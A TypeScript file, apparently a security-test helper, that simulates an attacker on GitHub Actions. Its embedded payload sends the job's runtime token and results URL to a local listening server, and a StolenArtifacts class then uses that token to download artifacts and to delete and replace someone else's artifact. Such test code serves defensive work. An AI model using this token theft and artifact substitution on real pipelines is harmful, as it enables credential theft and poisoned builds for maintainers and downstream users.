import { createHash } from "node:crypto";
import { readZip, writeZip } from "../../../github/results/zip.ts";
import { listen } from "../../../server/listen.ts";
import { readBody } from "../../../server/messages.ts";
import { wrapsSeal } from "./hostile.ts";

/** Files of an artifact by path. */
export type Files = Map<string, Uint8Array>;

/** A machine of somebody else's, to which a build sends what it finds. */
export interface Attacker extends AsyncDisposable {
  /** Code for the build: the runtime token of a JavaScript action of its job is sent here. */
  theft: string;
  /** What can be done with it from anywhere, once the build is over. Throws if no token came. */
  artifacts(): StolenArtifacts;
}

/** Starts one that waits for a token. */
export async function startAttacker(): Promise<Attacker> {
  let stolen: Record<string, string> | undefined;
  const server = await listen(0, {
    async request(request, response) {
      stolen ??= JSON.parse((await readBody(request)).toString());
      response.end();
    },
  });
  return {
    theft: wrapsSeal(`
async function evil(honest) {
  const { execFileSync } = await import("node:child_process");
  const { ACTIONS_RUNTIME_TOKEN: token, ACTIONS_RESULTS_URL: url } = process.env;
  await fetch(${JSON.stringify(server.url)}, { method: "POST", body: JSON.stringify({ token, url }) });
  execFileSync(process.execPath, [honest], { stdio: "inherit" });
}
`),
    artifacts() {
      const { token, url } = stolen ?? {};
      if (!token || !url)
        throw new Error("The build found no runtime token: what an action is given is not given here.");
      return new StolenArtifacts(token, url);
    },
    [Symbol.asyncDispose]: () => server.close(),
  };
}

/** The results service with somebody else's token: the calls of @actions/artifact. */
export class StolenArtifacts {
  readonly #token: string;
  readonly #url: string;
  readonly #ids: Record<string, string>;

  constructor(token: string, url: string) {
    this.#token = token;
    this.#url = url;
    const { scp } = JSON.parse(Buffer.from(token.split(".")[1] ?? "", "base64url").toString()) as { scp: string };
    const [, run = "", job = ""] = /Actions\.Results:([^:\s]+):(\S+)/.exec(scp) ?? [];
    this.#ids = { workflow_run_backend_id: run, workflow_job_run_backend_id: job };
  }

  /** Takes the name of an artifact and finishes it, as far as the service lets us. */
  async upload(name: string, files: Files): Promise<void> {
    const bytes = writeZip(files);
    const { signed_upload_url: url } = await this.#call("CreateArtifact", { name, version: 7 });
    const headers = { "x-ms-blob-type": "BlockBlob", "content-type": "application/zip" };
    const put = await fetch(url ?? "", { method: "PUT", headers, body: Uint8Array.from(bytes) });
    if (put.status !== 201) throw new Error(`The storage answered ${put.status}: ${await put.text()}`);
    const hash = `sha256:${createHash("sha256").update(bytes).digest("hex")}`;
    await this.#call("FinalizeArtifact", { name, size: String(bytes.byteLength), hash });
  }

  async download(name: string): Promise<Files> {
    const { signed_url: url } = await this.#call("GetSignedArtifactURL", { name });
    return readZip(Buffer.from(await (await fetch(url ?? "")).arrayBuffer()));
  }

  /** Puts another artifact in the place of one, whoever uploaded it. */
  async replace(name: string, files: Files): Promise<void> {
    await this.#call("DeleteArtifact", { name });
    await this.upload(name, files);
  }

  async #call(method: string, fields: object): Promise<Record<string, string>> {
    const answer = await fetch(`${this.#url}twirp/github.actions.results.api.v1.ArtifactService/${method}`, {
      method: "POST",
      headers: { authorization: `Bearer ${this.#token}`, "content-type": "application/json" },
      body: JSON.stringify({ ...this.#ids, ...fields }),
    });
    if (!answer.ok) throw new Error(`${method} was refused with ${answer.status}: ${await answer.text()}`);
    return (await answer.json()) as Record<string, string>;
  }
}
